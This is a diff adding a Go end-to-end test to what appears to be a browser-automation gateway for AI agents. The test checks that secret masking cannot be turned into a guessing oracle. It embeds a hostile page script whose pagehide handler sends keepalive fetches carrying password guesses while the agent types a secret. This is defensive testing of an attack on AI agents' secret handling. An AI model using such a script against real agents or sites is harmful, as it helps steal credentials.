@@ -116,3 +116,42 @@ func TestGuessesSentAsTheAgentLeavesForTheSecretsSiteAreNoOracle(t *testing.T) {
 	replies = refusalsUntil(t, call, replies, 2)
 	refusalsAlike(t, replies, password)
 }
+
+// TestGuessesRefusedAfterTheirTurnAreNoOracle: with pacing on, the
+// hostile page's keepalive fetches to its own host (in scope), sent as the
+// agent takes the tab to the secret's site, wait their turn; the agent
+// types the secret meanwhile, and the binding refuses them when their turn
+// comes, more than 2 s after the site's page committed. They are credited
+// to the page that sent them, as it was when they were paused, never to the
+// site's: no guess comes back masked.
+func TestGuessesRefusedAfterTheirTurnAreNoOracle(t *testing.T) {
+	t.Parallel()
+	const password = "R6-P4ced-L4te-3391"
+	manifest := strings.Replace(networkLogsManifest, "[browser.scope]\n", "[browser.scope]\nrequests_per_second_per_host = 0.25\n", 1)
+	if manifest == networkLogsManifest {
+		t.Fatal("no [browser.scope] to pace")
+	}
+	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, manifest, "")
+	site, evil := guessSites(t, servePage(func() string {
+		return `<!doctype html><title>Hostile</title><p id=ready>ready</p><script>
+addEventListener('pagehide', () => {
+  for (let i = 0; i < 4; i++) fetch('/k' + i + '?g=` + wrongGuess + `&g=` + password + `', {keepalive: true, method: 'POST', body: 'x'}).catch(() => 0);
+});
+</script>`
+	}))
+	cs := d.connect(t, "alice-token")
+	call := allowedCaller(t, cs)
+	call("navigate", map[string]any{"url": evil + "/"})
+	call("wait_for", map[string]any{"selector": "#ready"})
+	replies := call("navigate", map[string]any{"url": site + "/"})
+	replies += call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
+	for i := 0; i < 100 && strings.Count(replies, "/k") < 3 && strings.Count(replies, "withheld: it may") < 3; i++ {
+		time.Sleep(200 * time.Millisecond)
+		out, _ := callText(t, cs, "e2e.list_tabs", nil)
+		replies += out
+	}
+	t.Logf("replies:\n%s", replies)
+	if strings.Contains(replies, `\x5bsecret NET_PASSWORD\x5d`) || strings.Contains(replies, "[secret NET_PASSWORD]") {
+		t.Fatalf("a guess of the old page, refused after its turn, is masked for the secret's site (an oracle)")
+	}
+}
